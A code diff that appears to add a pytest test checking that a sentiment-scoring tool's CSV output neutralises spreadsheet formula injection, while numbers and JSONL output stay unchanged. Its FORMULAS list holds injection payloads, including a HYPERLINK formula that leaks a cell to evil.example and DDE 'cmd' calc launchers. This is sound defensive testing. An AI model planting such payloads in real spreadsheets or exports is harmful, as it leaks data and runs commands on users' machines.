@@ -114,3 +114,38 @@ def test_killed_cli_job_finishes_on_rerun_with_the_same_rows(tmp_path):
     rows = _read_csv(out)
     assert [r["external_id"] for r in rows] == [r["external_id"] for r in _read_csv(src)]
     assert all(r["sentiment"] for r in rows)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tab first", "\r=1+1 carriage return first",
+            "＝1+1 full-width"]
+
+
+def test_csv_output_neutralises_formulas_but_keeps_numbers(tmp_path, fake_scorer):
+    """Issue 20: a text a spreadsheet would run is written with a leading quote (OWASP);
+    numbers, negative ones included, stay numbers; JSONL keeps every value as it was."""
+    src = tmp_path / "in.csv"
+    with open(src, "w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["id", "text", "note", "delta"])
+        for i, formula in enumerate(FORMULAS):
+            w.writerow([f"f{i}", f"{formula} terrible, awful, bad", formula, "-7"])
+        w.writerow(["plain", "terrible awful taste, bad bad bad", "-", "-0.25"])
+    score_file(src, tmp_path / "out.csv", scorer=fake_scorer, detector=LanguageDetector())
+    rows = _read_csv(tmp_path / "out.csv")
+    for row, formula in zip(rows, FORMULAS):
+        assert row["note"] == "'" + formula
+        assert row["text"] == "'" + formula + " terrible, awful, bad"
+    assert rows[-1]["note"] == "'-" and rows[-1]["text"] == "terrible awful taste, bad bad bad"
+    assert [r["delta"] for r in rows] == ["-7"] * len(FORMULAS) + ["-0.25"]  # numeric text: as is
+    negative = [r for r in rows if r["sentiment"] == "negative"]
+    assert negative and all(float(r["sentiment_score"]) < 0 for r in negative)  # a number, no quote
+    for r in rows:
+        assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values())
+        assert all(not v.startswith("-") or v == "-7" or float(v) <= 0 for v in r.values() if v)
+
+    score_file(src, tmp_path / "out.jsonl", scorer=fake_scorer, detector=LanguageDetector())
+    records = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert [r["note"] for r in records] == FORMULAS + ["-"]
+    assert all(isinstance(r["sentiment_score"], float) for r in records)
+    assert any(r["sentiment_score"] < 0 for r in records)
